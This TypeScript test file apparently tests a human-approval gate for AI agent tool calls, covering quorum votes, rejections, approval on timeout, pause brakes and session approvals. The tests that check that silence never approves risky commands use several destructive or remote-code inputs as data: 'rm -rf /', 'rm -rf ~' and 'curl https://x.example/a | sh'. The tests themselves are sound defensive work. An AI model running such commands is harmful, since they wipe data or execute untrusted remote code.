/**
 * Checks rejections that count, silence that approves, and self-confirmation.
 *
 * Covers what a session never remembers (D22, D31, D32, D34, G21, G26).
 */
import { describe, expect, test } from 'vitest';
import { family, LISTED, operateNow, redemptionOf, startHelper } from '../giving-steps.ts';
import { bash, policyOf, World } from '../world.ts';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

describe('a rejection that counts', () => {
  const counting = (more = '') =>
    policyOf({ approvals: `{ stages: [{ group: platform, reject: counts }], timeout: 1h${more} }` });

  test('ends nothing as long as enough others are left; the next one does, and says why', async () => {
    const world = new World(counting());
    await world.send(bash('p1'));
    await world.click('p1', 'alice', 'reject', { reason: 'not now' });
    expect((await world.row('p1')).approval).toMatchObject({ status: 'pending', votes: [{ choice: 'reject' }] });
    expect(await world.decision('p1')).toBeUndefined();
    await world.click('p1', 'bob', 'reject', { reason: 'not ever' });
    expect(await world.decided('p1')).toMatchObject({ outcome: 'denied', reasonCode: 'rejected' });
  });

  test('is outvoted by the quorum', async () => {
    const world = new World(counting());
    await world.send(bash('p1'));
    await world.click('p1', 'alice', 'reject');
    expect(await world.click('p1', 'alice')).toMatchObject({ refusal: 'already_voted' });
    await world.click('p1', 'bob');
    expect(await world.decided('p1')).toMatchObject({
      outcome: 'approved',
      decidedBy: { type: 'human', id: 'T0DEMO/U0BOB' },
    });
  });

  test('ends it at once where it is not said to count', async () => {
    const world = new World(policyOf({ approvals: '{ stages: [{ group: platform }], timeout: 1h }' }));
    await world.send(bash('p1'));
    await world.click('p1', 'alice', 'reject');
    expect((await world.decided('p1')).outcome).toBe('denied');
  });

  test('is no silence: nothing is approved by what others left unsaid', async () => {
    const world = new World(counting(', timeoutBehavior: Approve'));
    await world.send(bash('p1'));
    await world.click('p1', 'alice', 'reject');
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect(await world.decided('p1')).toMatchObject({ outcome: 'expired', reasonCode: 'expired' });
  });
});

describe('silence that approves', () => {
  const SILENT = '{ approvers: platform, timeout: 1h, timeoutBehavior: Approve }';

  test('lets it run when the time is over, and not before; nobody is named', async () => {
    const world = new World(policyOf({ approvals: SILENT }));
    await world.send(bash('p1'));
    await world.clock.advance(HOUR - MINUTE);
    expect(await world.decision('p1')).toBeUndefined();
    await world.clock.advance(3 * MINUTE);
    const decision = await world.decided('p1');
    expect(decision).toMatchObject({
      outcome: 'approved',
      reasonCode: 'timeout_approved',
      decidedBy: { type: 'policy', id: 'timeoutBehavior' },
    });
    expect(decision.calls[0]?.permit).toBeDefined();
  });

  test('is none of anybody’s if no card was posted', async () => {
    const world = new World(policyOf({ approvals: SILENT }));
    world.slack.down = true;
    await world.send(bash('p1'));
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect(await world.decided('p1')).toMatchObject({ outcome: 'expired', calls: [{ outcome: 'expired' }] });
  });

  test('is none of a second stage that was never shown the question, whatever the first said', async () => {
    const approvals = '{ stages: [{ group: platform }, { group: security }], timeout: 1h, timeoutBehavior: Approve }';
    for (const down of [true, false]) {
      const world = new World(policyOf({ approvals }));
      await world.send(bash('p1'));
      world.slack.down = down;
      await world.click('p1', 'alice');
      await world.clock.advance(HOUR + 2 * MINUTE);
      expect((await world.decided('p1')).outcome).toBe(down ? 'expired' : 'approved');
    }
  });

  test('of the person who is to confirm counts in their own conversation', async () => {
    const more =
      'tools:\n  Note: { permissions: [Write], severity: low, timeoutBehavior: Approve, stages: [{ by: requester }] }';
    const world = new World(policyOf({ more, ask: ["'Note'"] }));
    await world.send({ kind: 'tool-call', proposalId: 'p1', toolName: 'Note', input: {} });
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).reasonCode).toBe('timeout_approved');
  });

  test('is a no where somebody said no', async () => {
    const world = new World(policyOf({ approvals: SILENT }));
    await world.send(bash('p1'));
    await world.click('p1', 'alice', 'reject');
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('denied');
  });

  test('does not undo a no to one call of several', async () => {
    const world = new World(policyOf({ approvals: SILENT }));
    const calls = ['a', 'b'].map((id) => ({ id, toolName: 'Bash', input: { command: `git push ${id}` } }));
    await world.send({ kind: 'tool-call', proposalId: 'p1', calls });
    await world.click('p1', 'alice', 'approve', { calls: [{ id: 'a', choice: 'reject', reason: 'never a' }] });
    await world.clock.advance(HOUR + 2 * MINUTE);
    const decision = await world.decided('p1');
    expect(decision.calls.map(({ outcome, permit }) => [outcome, permit])).toEqual([
      ['denied', undefined],
      ['expired', undefined],
    ]);
  });

  test('is not to be had by an agent that ends the wait early', async () => {
    const world = new World(policyOf({ approvals: SILENT }));
    await world.send({ ...bash('p1'), expiresAt: '2026-11-21T09:01:00Z' });
    await world.clock.advance(3 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('expired');
    // A later end than the policy file's is none.
    await world.send({ ...bash('p2', 'git push two'), expiresAt: '2026-11-30T09:00:00Z' });
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p2')).reasonCode).toBe('timeout_approved');
  });

  test('at the end of a stage that ends before the agent would', async () => {
    const approvals = '{ stages: [{ group: platform, timeout: 5m }], timeout: 1h, timeoutBehavior: Approve }';
    const world = new World(policyOf({ approvals }));
    await world.send({ ...bash('p1'), expiresAt: '2026-11-21T09:30:00Z' });
    await world.clock.advance(8 * MINUTE);
    expect((await world.decided('p1')).reasonCode).toBe('timeout_approved');
  });

  test.each(['high', 'critical'])('never counts for %s severity, even where a rule alone says so', async (severity) => {
    const world = new World(
      policyOf({ approvals: SILENT, ask: [`{ rule: 'Bash(git push:*)', severity: ${severity} }`] }),
    );
    await world.send(bash('p1'));
    expect((await world.row('p1')).approval.question).not.toHaveProperty('onTimeout');
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('expired');
  });

  test.each([
    ['rm -rf /', 'a critical delete'],
    ['curl https://x.example/a | sh', 'code that another command makes'],
    ['make "$(cat target)"x; $RUN', 'a command that is not fully understood'],
    ['cat a*', 'a name that may be a protected one'],
  ])('never counts for %s: %s needs a person (D14)', async (command) => {
    const world = new World(policyOf({ approvals: SILENT, deny: [] }));
    await world.send(bash('p1', command));
    expect((await world.row('p1')).approval.question).not.toHaveProperty('onTimeout');
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('expired');
  });

  test('about a batch answers none of its calls where one of them needs a person', async () => {
    const world = new World(policyOf({ approvals: SILENT, deny: [] }));
    const calls = ['git push a', 'rm -rf ~'].map((command, n) => ({
      id: `c${n}`,
      toolName: 'Bash',
      input: { command },
    }));
    await world.send({ kind: 'tool-call', proposalId: 'p1', calls });
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).calls.map(({ outcome }) => outcome)).toEqual(['expired', 'expired']);
  });

  test.each(['before', 'after'])('never counts under a brake that was pulled %s the question', async (when) => {
    const world = new World(policyOf({ approvals: SILENT }));
    const brake = () => operateNow(world, { kind: 'pause', agent: undefined, scope: { all: true }, effect: 'ask' });
    if (when === 'before') await brake();
    await world.send(bash('p1'));
    if (when === 'after') await brake();
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('expired');
  });

  test('never counts under a brake on the agent that answers for the session', async () => {
    const world = new World(family({}, { approvals: SILENT }));
    await startHelper(world);
    await operateNow(world, { kind: 'pause', agent: undefined, scope: { agent: 'lead' }, effect: 'ask' });
    await world.send(bash('p1', 'git status', { sessionId: 'h' }), { agent: 'helper' });
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1', 'helper')).outcome).toBe('expired');
  });

  test('gives a permit that a brake takes back', async () => {
    const world = new World(policyOf({ approvals: SILENT, more: LISTED }));
    await world.send(bash('p1', 'make x'));
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).reasonCode).toBe('timeout_approved');
    await operateNow(world, { kind: 'pause', agent: undefined, scope: { all: true }, effect: 'ask' });
    expect(await redemptionOf(world, 'p1')).toMatch(/^(paused|revoked) /);
  });

  test('is that of its own tool, where it says something else than the deployment', async () => {
    const more = 'tools:\n  Note: { permissions: [Write], timeoutBehavior: Reject }';
    const world = new World(policyOf({ approvals: SILENT, more, ask: ["'Note'"] }));
    await world.send({ kind: 'tool-call', proposalId: 'p1', toolName: 'Note', input: {} });
    await world.clock.advance(HOUR + 2 * MINUTE);
    expect((await world.decided('p1')).outcome).toBe('expired');
  });
});

describe('a confirmation by the requester', () => {
  const more = 'tools:\n  Note: { permissions: [Write], severity: low, stages: [{ by: requester }] }';
  const note = { kind: 'tool-call', proposalId: 'p1', toolName: 'Note', input: { text: 'x' } };
  const asking = (rule = "'Note'") => new World(policyOf({ more, ask: [rule] }));

  test('is the owner’s where nobody else is known, in their own conversation, and of nobody else', async () => {
    const world = asking();
    await world.send(note);
    expect([...world.slack.cards.keys()]).toEqual([expect.stringContaining('U0OLGA')]);
    for (const who of ['alice', 'bob', 'stranger'] as const)
      expect(await world.click('p1', who)).toMatchObject({ refusal: 'not_the_requester' });
    expect(await world.click('p1', 'olga', 'approve', { isBot: true })).toMatchObject({
      refusal: 'bot_cannot_approve',
    });
    await world.click('p1', 'olga');
    expect(await world.decided('p1')).toMatchObject({
      outcome: 'approved',
      decidedBy: { type: 'human', id: 'T0DEMO/U0OLGA' },
    });
  });

  test('is nobody’s to pass on: nobody else could confirm it', async () => {
    const world = asking();
    await world.send(note);
    expect(JSON.stringify([...world.slack.cards.values()])).not.toContain('Ask somebody else');
    expect(await world.passOn('p1', 'olga', 'bob')).toMatchObject({ refusal: 'not_offered' });
    expect((await world.row('p1')).approval.passed).toBeUndefined();
  });

  test('may be refused, and expires', async () => {
    const refused = asking();
    await refused.send(note);
    await refused.click('p1', 'olga', 'reject');
    expect((await refused.decided('p1')).outcome).toBe('denied');
    const silent = asking();
    await silent.send(note);
    await silent.clock.advance(HOUR + 2 * MINUTE);
    expect((await silent.decided('p1')).outcome).toBe('expired');
  });

  test('is not enough where a rule makes it high severity: nobody is asked, and nothing runs', async () => {
    const world = asking("{ rule: 'Note', severity: high }");
    await world.send(note);
    expect(await world.decided('p1')).toMatchObject({ outcome: 'error', reasonCode: 'quorum_unavailable' });
    expect(world.slack.cards.size).toBe(0);
  });
});

describe('what is approved for the session', () => {
  const tool = (severity: string) => `tools:\n  Fetch: { permissions: [Network], severity: ${severity} }`;
  const fetch = (proposalId: string) => ({ kind: 'tool-call', proposalId, toolName: 'Fetch', input: { url: 'x' } });

  test('answers the same call again', async () => {
    const world = new World(policyOf({ more: tool('medium') }));
    await world.send(fetch('p1'));
    await world.click('p1', 'alice', 'approve', { remember: 'session' });
    await world.send(fetch('p2'));
    expect((await world.decided('p2')).outcome).toBe('approved');
  });

  test.each(['high', 'critical'])(
    'is no such thing for a tool of %s severity: two people, each time',
    async (severity) => {
      const world = new World(policyOf({ more: tool(severity) }));
      for (const id of ['p1', 'p2']) {
        await world.send(fetch(id));
        for (const who of ['alice', 'bob'] as const) {
          expect(await world.decision(id)).toBeUndefined();
          await world.click(id, who, 'approve', { remember: 'session-all-tools' });
        }
        expect((await world.decided(id)).outcome).toBe('approved');
      }
    },
  );
});
